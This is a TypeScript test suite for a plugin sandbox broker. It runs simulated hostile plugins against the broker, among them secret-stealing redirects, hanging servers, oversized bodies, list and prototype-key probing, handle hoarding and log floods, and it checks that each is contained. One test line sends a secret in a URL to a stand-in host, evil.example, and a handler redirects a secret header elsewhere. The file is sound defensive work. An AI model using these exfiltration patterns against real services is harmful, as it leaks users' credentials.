/**
 * Hostile plugins against the broker: redirects, deadlines, huge bodies,
 * secrets that must never come back in clear, list and config probing,
 * handle hoarding and audit/log floods. Each test proves the attack really
 * ran (server hits, audit rows in the metadata store, plugin answers) and
 * that it was contained.
 */
import assert from "node:assert/strict";
import { mergeNeeds, toDenoFlags } from "../../kernel/permissions.ts";
import { pluginPermissions } from "../../kernel/sandbox/host_needs.ts";
import { netHelperArgs } from "../../kernel/sandbox/net_helper.ts";
import {
  configurePlugins,
  formatAudit,
  invokePlugin,
  parsePluginConfig,
} from "../../kernel/sandbox/mod.ts";
import { Pipeline, type Stack, step } from "../../mod.ts";
import { pluginStep } from "../../kernel/sandbox/mod.ts";
import { echoWat, pluginEntry, requestsWat, rssBytes, wat, withTempStack } from "./_fixtures.ts";
import { ask, floodWat, makeBroker, PEM, startServer } from "./_broker_fixtures.ts";

const withStack = (fn: (stack: Stack, dir: string) => Promise<void>) =>
  withTempStack("flowyml-broker-", (c) => fn(c.stack, c.dir));

const err = (
  r: { json: Record<string, unknown> },
) => (r.json.error as { code: string; message: string } | undefined);

Deno.test("302 to another port: the secret header is never sent there; every hop is audited", async () => {
  const b2 = startServer(() => new Response("other port"));
  const a = startServer((r) => {
    const p = new URL(r.url).pathname;
    if (p === "/away") return Response.redirect(`${b2.url}/collect`, 302);
    if (p === "/same") return Response.redirect(`${a.url}/ok`, 302);
    return new Response("home");
  });
  Deno.env.set("FLOWYML_T_KEY", "key-0123456789abcdef");
  try {
    await withStack(async (stack) => {
      // Only A granted: the hop to B is refused before B is contacted.
      let b = makeBroker(stack, { net: [a.host], secrets: ["FLOWYML_T_KEY"] });
      let h = (await ask(b, { op: "secrets.get", name: "FLOWYML_T_KEY" })).json.secret as string;
      const refused = await ask(b, {
        op: "http.fetch",
        url: `${a.url}/away`,
        headers: { "x-key": { secret: h } },
      });
      assert.equal(err(refused)?.code, "denied");
      assert.match(err(refused)!.message, new RegExp(`redirect to ${b2.host} refused`));
      assert.equal(a.hits, 1, "the attack ran: A answered 302");
      assert.equal(b2.hits, 0, "B was never contacted");
      await b.flush();
      let audit = await stack.metadataStore.listAudit("run-hostile");
      assert.ok(
        audit.some((e) => e.op === "http.redirect" && e.resource === b2.host && !e.allowed),
        JSON.stringify(audit),
      );
      // Both granted: the hop is followed, but the secret is stripped on the change of origin.
      b = makeBroker(stack, { net: [a.host, b2.host], secrets: ["FLOWYML_T_KEY"] }, {
        runId: "run-hostile-2",
      });
      h = (await ask(b, { op: "secrets.get", name: "FLOWYML_T_KEY" })).json.secret as string;
      const followed = await ask(b, {
        op: "http.fetch",
        url: `${a.url}/away`,
        headers: { "x-key": { secret: h }, "authorization": "Bearer plain" },
      });
      assert.equal(followed.json.ok, true, JSON.stringify(followed.json));
      assert.equal(new TextDecoder().decode(followed.payload), "other port");
      assert.equal(b2.hits, 1);
      assert.equal(a.seen.at(-1)!.headers.get("x-key"), "key-0123456789abcdef");
      assert.equal(b2.seen[0].headers.get("x-key"), null, "secret sent to another origin");
      assert.equal(b2.seen[0].headers.get("authorization"), null);
      // A same-origin redirect keeps it.
      const same = await ask(b, {
        op: "http.fetch",
        url: `${a.url}/same`,
        headers: { "x-key": { secret: h } },
      });
      assert.equal(same.json.ok, true);
      assert.equal(a.seen.at(-1)!.path, "/ok");
      assert.equal(a.seen.at(-1)!.headers.get("x-key"), "key-0123456789abcdef");
      await b.flush();
      audit = await stack.metadataStore.listAudit("run-hostile-2");
      const hop = audit.find((e) => e.op === "http.redirect" && e.resource === b2.host);
      assert.ok(hop?.allowed, JSON.stringify(audit));
      assert.match(hop!.detail!, /not sent here: x-key, authorization/);
      assert.ok(!JSON.stringify(audit).includes("key-0123456789abcdef"));
    });
  } finally {
    Deno.env.delete("FLOWYML_T_KEY");
    await a.close();
    await b2.close();
  }
});

Deno.test("a server that never answers cannot hold the call: the request is aborted at grants.timeout", async () => {
  let aborted = 0;
  const never = startServer((r) =>
    new Promise((resolve) =>
      r.signal.addEventListener("abort", () => {
        aborted++;
        resolve(new Response("late"));
      })
    )
  );
  try {
    await withStack(async (stack) => {
      const b = makeBroker(stack, { net: [never.host], timeout: "500ms" });
      const r = await ask(b, { op: "http.fetch", url: `${never.url}/hang` });
      assert.equal(never.hits, 1, "the request reached the server");
      assert.equal(err(r)?.code, "failed");
      assert.match(err(r)!.message, /no complete answer within 500 ms/);
      await b.flush();
      // The call's own deadline bounds it too (shorter than grants.timeout).
      const c = makeBroker(stack, { net: [never.host], timeout: "30s" }, {
        deadline: () => Date.now() + 300,
      });
      const r2 = await ask(c, { op: "http.fetch", url: `${never.url}/hang2` });
      assert.match(err(r2)!.message, /no complete answer within (2\d\d|300) ms/);
      await c.flush();
    });
    assert.equal(never.hits, 2);
  } finally {
    await never.close();
  }
  assert.equal(aborted, 2, "the server saw both requests aborted");
});

Deno.test("a 768 MiB streamed body is cut at max_output as it arrives; the kernel never holds it", async () => {
  const total = 768 * 1024 ** 2;
  let sent = 0;
  const big = startServer(() =>
    new Response(
      new ReadableStream({
        pull(c) {
          if (sent >= total) return c.close();
          const chunk = new Uint8Array(1 << 20);
          sent += chunk.length;
          c.enqueue(chunk);
        },
      }),
    )
  );
  try {
    await withStack(async (stack) => {
      const before = rssBytes();
      const b = makeBroker(stack, { net: [big.host], max_output: "16Mi" });
      const r = await ask(b, { op: "http.fetch", url: `${big.url}/huge` });
      assert.equal(err(r)?.code, "oversized");
      assert.match(err(r)!.message, /passed the limit of 16777216 bytes/);
      await b.flush();
      const grown = rssBytes() - before;
      assert.ok(sent > 16 * 1024 ** 2, `the server streamed ${sent} bytes`);
      assert.ok(sent < total / 2, `the body was read on past the limit: ${sent} bytes`);
      assert.ok(grown < 256 * 1024 ** 2, `kernel RSS grew ${(grown / 2 ** 20).toFixed(0)} MiB`);
      const audit = await stack.metadataStore.listAudit("run-hostile");
      assert.ok(audit.some((e) => e.op === "http.fetch" && !e.allowed && /limit/.test(e.detail!)));
    });
  } finally {
    await big.close();
  }
});

Deno.test("a PEM secret (not a valid header value) never comes back in clear", async () => {
  const api = startServer(() => new Response("ok"));
  Deno.env.set("FLOWYML_T_PEM", PEM);
  try {
    await withStack(async (stack) => {
      const b = makeBroker(stack, {
        net: [api.host],
        secrets: [{ name: "FLOWYML_T_PEM", hosts: [api.host] }],
      });
      const h = (await ask(b, { op: "secrets.get", name: "FLOWYML_T_PEM" })).json.secret as string;
      assert.match(h, /^secret:/);
      const r = await ask(b, {
        op: "http.fetch",
        url: `${api.url}/x`,
        headers: { authorization: { secret: h } },
      });
      assert.equal(err(r)?.code, "denied");
      assert.match(err(r)!.message, /FLOWYML_T_PEM is not a valid HTTP header value/);
      assert.equal(api.hits, 0);
      // The plugin also logs text that happens to contain it (a reflected value): redacted.
      await ask(b, { op: "log", message: `leak? ${PEM}` });
      await ask(b, { op: "artifacts.get", path: PEM.split("\n")[1] });
      await b.flush();
      const audit = JSON.stringify(await stack.metadataStore.listAudit("run-hostile"));
      const everything = JSON.stringify(r.json) + audit + b.lastDenial;
      for (const line of PEM.split("\n")) assert.ok(!everything.includes(line), line);
      assert.match(audit, /\[redacted:FLOWYML_T_PEM\]/);
    });
  } finally {
    Deno.env.delete("FLOWYML_T_PEM");
    await api.close();
  }
});

Deno.test("a secret reflected into a URL, a header or a redirect is redacted everywhere", async () => {
  const SECRET = "tok-4242-SECRET/value+x";
  const away = startServer(() => new Response("away"));
  const api = startServer((r) => {
    const got = r.headers.get("x-key") ?? "";
    if (new URL(r.url).pathname === "/bounce") {
      return Response.redirect(`${away.url}/cb?k=${encodeURIComponent(got)}&raw=${got}`, 302);
    }
    return new Response("ok", { headers: { "x-echo": got } });
  });
  Deno.env.set("FLOWYML_T_TOKEN", SECRET);
  try {
    await withStack(async (stack) => {
      const b = makeBroker(stack, {
        net: [api.host, "127.0.0.9"],
        secrets: [{ name: "FLOWYML_T_TOKEN", hosts: [api.host] }],
      });
      const h = (await ask(b, { op: "secrets.get", name: "FLOWYML_T_TOKEN" })).json.secret;
      const headers = { "x-key": { secret: h } };
      const echo = await ask(b, { op: "http.fetch", url: `${api.url}/echo`, headers });
      assert.equal(echo.json.ok, true);
      assert.equal(api.seen[0].headers.get("x-key"), SECRET, "the attack ran: the value was sent");
      const bounce = await ask(b, { op: "http.fetch", url: `${api.url}/bounce`, headers });
      assert.equal(err(bounce)?.code, "denied");
      assert.equal(away.hits, 0);
      // Bound to api.host: refused for another granted host, before any connection.
      const other = await ask(b, { op: "http.fetch", url: "http://127.0.0.9:9/x", headers });
      assert.match(err(other)!.message, /may only be sent to 127\.0\.0\.1:\d+/);
      // The plugin puts the value in a URL itself (e.g. it got it elsewhere).
      await ask(b, { op: "http.fetch", url: `http://evil.example/?k=${SECRET}` });
      await b.flush();
      const audit = await stack.metadataStore.listAudit("run-hostile");
      const all = JSON.stringify([echo.json, bounce.json, other.json, audit, b.lastDenial]);
      for (const form of [SECRET, encodeURIComponent(SECRET)]) {
        assert.ok(!all.includes(form), `${form} in ${all}`);
      }
      assert.equal(
        (echo.json.headers as Record<string, string>)["x-echo"],
        "[redacted:FLOWYML_T_TOKEN]",
      );
      assert.ok(
        audit.some((e) => e.op === "http.redirect" && /redacted:FLOWYML_T_TOKEN/.test(e.detail!)),
      );
    });
  } finally {
    Deno.env.delete("FLOWYML_T_TOKEN");
    await api.close();
    await away.close();
  }
});

Deno.test("list never reveals names outside the grant: denied and empty prefixes answer the same", async () => {
  await withStack(async (stack) => {
    const store = stack.artifactStore;
    await store.writeBytes("datasets/iris.csv", new TextEncoder().encode("a,b"));
    await store.writeBytes("secrets/prod-db-password-7f3a", new TextEncoder().encode("x"));
    const b = makeBroker(stack, { artifacts: { read: ["datasets/*"] } });
    const answers: Record<string, string> = {};
    for (const prefix of ["secrets/", "secrets/prod-db-password-7", "secrets/zzz", "nothing/"]) {
      answers[prefix] = JSON.stringify((await ask(b, { op: "artifacts.list", prefix })).json);
    }
    assert.equal(new Set(Object.values(answers)).size, 1, JSON.stringify(answers));
    assert.equal(answers["secrets/"], '{"ok":true,"items":[]}');
    const all = (await ask(b, { op: "artifacts.list", prefix: "" })).json;
    assert.deepEqual((all.items as { path: string }[]).map((i) => i.path), ["datasets/iris.csv"]);
    await b.flush();
    const audit = await stack.metadataStore.listAudit("run-hostile");
    assert.equal(audit.filter((e) => e.op === "artifacts.list").length, 5);
  });
});

Deno.test("config keys are own properties only: __proto__, constructor, toString are unknown", async () => {
  await withStack(async (stack) => {
    const b = makeBroker(stack, { config: { mode: "fast" } });
    assert.deepEqual((await ask(b, { op: "config.get", key: "mode" })).json, {
      ok: true,
      value: "fast",
    });
    for (const key of ["__proto__", "constructor", "toString", "hasOwnProperty", "valueOf"]) {
      const r = await ask(b, { op: "config.get", key });
      assert.equal(err(r)?.code, "denied", key);
    }
    // Reads through Extism host functions are audited too, as the plugin host reports them.
    b.hostRead("config_get", "mode", true);
    await b.flush();
    const audit = await stack.metadataStore.listAudit("run-hostile");
    assert.ok(audit.some((e) => e.op === "extism.config_get" && e.resource === "mode"));
    assert.equal(audit.filter((e) => e.op === "config.get" && !e.allowed).length, 5);
    assert.equal(audit.filter((e) => e.op === "config.get" && e.allowed).length, 1);
  });
});

Deno.test("hoarding artifact handles is bounded by the memory grant", async () => {
  await withStack(async (stack) => {
    await stack.artifactStore.writeBytes("data/big.bin", new Uint8Array(8 * 1024 ** 2));
    const b = makeBroker(stack, { artifacts: { read: ["data/*"] }, memory: "16Mi" });
    const before = rssBytes();
    let ok = 0, refused = 0;
    let last = "";
    for (let i = 0; i < 100; i++) {
      const r = await ask(b, { op: "artifacts.get", path: "data/big.bin" });
      if (r.json.ok) ok++;
      else {
        refused++;
        last = err(r)!.message;
      }
    }
    assert.equal(ok, 2);
    assert.equal(refused, 98);
    assert.match(last, /over the plugin's memory grant of 16777216 bytes \(grants\.memory\)/);
    const grown = rssBytes() - before;
    assert.ok(grown < 200 * 1024 ** 2, `RSS grew ${(grown / 2 ** 20).toFixed(0)} MiB`);
    await b.flush();
  });
});

Deno.test("a glob net grant gives the pipeline child no --allow-net; the brokered request still works", async () => {
  const api = startServer(() => new Response("hello"));
  try {
    const cfg = parsePluginConfig("globby", {
      source: "/tmp/globby.wasm",
      grants: { net: ["127.0.0.*:*"], secrets: ["X"] },
    });
    const flags = toDenoFlags(mergeNeeds([pluginPermissions(cfg)]));
    assert.ok(!flags.some((f) => f.startsWith("--allow-net")), flags.join(" "));
    assert.ok(flags.includes(`--allow-run=${Deno.execPath()}`), flags.join(" "));
    // The net helper alone holds the broad flag; exact grants stay exact.
    assert.ok(netHelperArgs(["127.0.0.*:*"]).includes("--allow-net"));
    assert.ok(netHelperArgs([api.host]).includes(`--allow-net=${api.host}`));
    // A process with only those flags (pipeline code): brokered HTTP works, its own fetch does not.
    const out = await new Deno.Command(Deno.execPath(), {
      args: [
        "run",
        "--no-prompt",
        `--allow-run=${Deno.execPath()}`,
        new URL("./_net_child.ts", import.meta.url).pathname,
        String(api.port),
      ],
      stdout: "piped",
      stderr: "piped",
    }).output();
    const seen = JSON.parse(new TextDecoder().decode(out.stdout));
    assert.deepEqual(seen, { brokered: "hello", direct: "NotCapable" });
    assert.deepEqual(api.seen.map((x) => x.path), ["/brokered"]);
    await withStack(async (stack) => {
      const b = makeBroker(stack, { net: ["127.0.0.*:*"] });
      const r = await ask(b, { op: "http.fetch", url: `${api.url}/hi` });
      assert.equal(r.json.ok, true, JSON.stringify(r.json));
      assert.equal(new TextDecoder().decode(r.payload), "hello");
      assert.equal(api.hits, 2);
      await b.flush();
    });
  } finally {
    await api.close();
  }
});

Deno.test("audit and log floods are bounded: aggregated rows, batched, and a dropped-lines line", async () => {
  await withStack(async (stack, dir) => {
    const N = 5000;
    const bytes = await wat(floodWat([
      '{"v":1,"op":"artifacts.get","path":"secrets/key"}',
      '{"v":1,"op":"log","message":"spam \\u001b[2K\\rline"}',
    ], N));
    configurePlugins({ flood: await pluginEntry(dir, "flood", bytes, { timeout: "60s" }) });
    const lines: string[] = [];
    let inserts = 0;
    const meta = stack.metadataStore;
    const record = meta.recordAudit.bind(meta);
    meta.recordAudit = (e) => {
      inserts++;
      return record(e);
    };
    const res = await invokePlugin("flood", "run", {
      input: {},
      runId: "run-flood",
      stack,
      log: (m) => lines.push(m),
    });
    assert.deepEqual(res.json, { outputs: { out: { json: 1 } } });
    const audit = await meta.listAudit("run-flood");
    assert.ok(audit.length <= 210, `${audit.length} rows`);
    const count = (op: string) =>
      audit.filter((e) => e.op === op).reduce(
        (n, e) => n + Number(/^aggregated: (\d+)/.exec(e.detail ?? "")?.[1] ?? 1),
        0,
      );
    assert.equal(count("artifacts.get"), N, "every denied request is counted");
    assert.equal(count("log"), N);
    assert.ok(inserts <= 4, `${inserts} inserts`);
    assert.match(
      formatAudit(audit),
      /10001 brokered call\(s\) by flood: 5001 allowed, 5000 denied/,
    );
    assert.equal(lines.length, 1001);
    assert.match(lines.at(-1)!, /^… 4000 log line\(s\) dropped/);
    assert.ok(lines.every((l) => !l.includes("\x1b")), "control characters reached the log");
  });
});

Deno.test("a plugin step calling a server that never answers fails at its timeout; the next run works", async () => {
  let aborted = 0;
  const never = startServer((r) =>
    new Promise((resolve) =>
      r.signal.addEventListener("abort", () => {
        aborted++;
        resolve(new Response("late"));
      })
    )
  );
  try {
    await withStack(async (stack, dir) => {
      const req = `{"v":1,"op":"http.fetch","url":"${never.url}/hang"}`;
      configurePlugins({
        hang: await pluginEntry(dir, "hang", await wat(requestsWat([req])), {
          net: [never.host],
          timeout: "1s",
        }),
        echo_ok: await pluginEntry(dir, "echo_ok", await wat(echoWat())),
      });
      const r = await new Pipeline("hang", { stack, cache: false })
        .add(pluginStep("hang", { outputs: ["out"] })).run();
      assert.equal(r.status, "failed");
      // The request is aborted at the call's deadline (= grants.timeout): the step fails naming it.
      assert.match(
        r.error!.message,
        /plugin "hang" (was stopped at its timeout: exceeded its timeout of 1000 ms|was denied: http\.fetch 127\.0\.0\.1:\d+: no complete answer within \d+ ms)/,
      );
      assert.equal(never.hits, 1);
      const audit = await stack.metadataStore.listAudit(r.runId);
      assert.ok(audit.some((e) => e.op === "call" && !e.allowed), JSON.stringify(audit));
      // The same kernel runs the next pipeline correctly.
      const next = await new Pipeline("next", { stack, cache: false })
        .add(step({ name: "load", outputs: ["raw"] }, () => new Uint8Array([1, 2, 3])))
        .add(pluginStep("echo_ok", { inputs: ["raw"], outputs: ["out"] })).run();
      assert.equal(next.status, "completed", next.error?.message ?? "");
      assert.deepEqual(next.outputs.out, new Uint8Array([1, 2, 3]));
    });
  } finally {
    await never.close();
  }
  assert.equal(aborted, 1);
});

Deno.test("a secret bound to a host outside grants.net is a config error naming the key path", () => {
  assert.throws(
    () =>
      parsePluginConfig("p", {
        source: "p.wasm",
        grants: { net: ["api.example.com"], secrets: [{ name: "K", hosts: ["evil.example"] }] },
      }),
    /plugins\.p\.grants\.secrets\.0\.hosts: secret K is bound to evil\.example, which grants\.net does not allow/,
  );
  const ok = parsePluginConfig("p", {
    source: "p.wasm",
    grants: {
      net: ["*.example.com"],
      secrets: ["PLAIN", { name: "K", hosts: ["api.example.com"] }],
    },
  });
  assert.deepEqual(ok.grants.secrets, ["PLAIN", "K"]);
  assert.deepEqual({ ...ok.grants.secret_hosts }, { K: ["api.example.com"] });
});
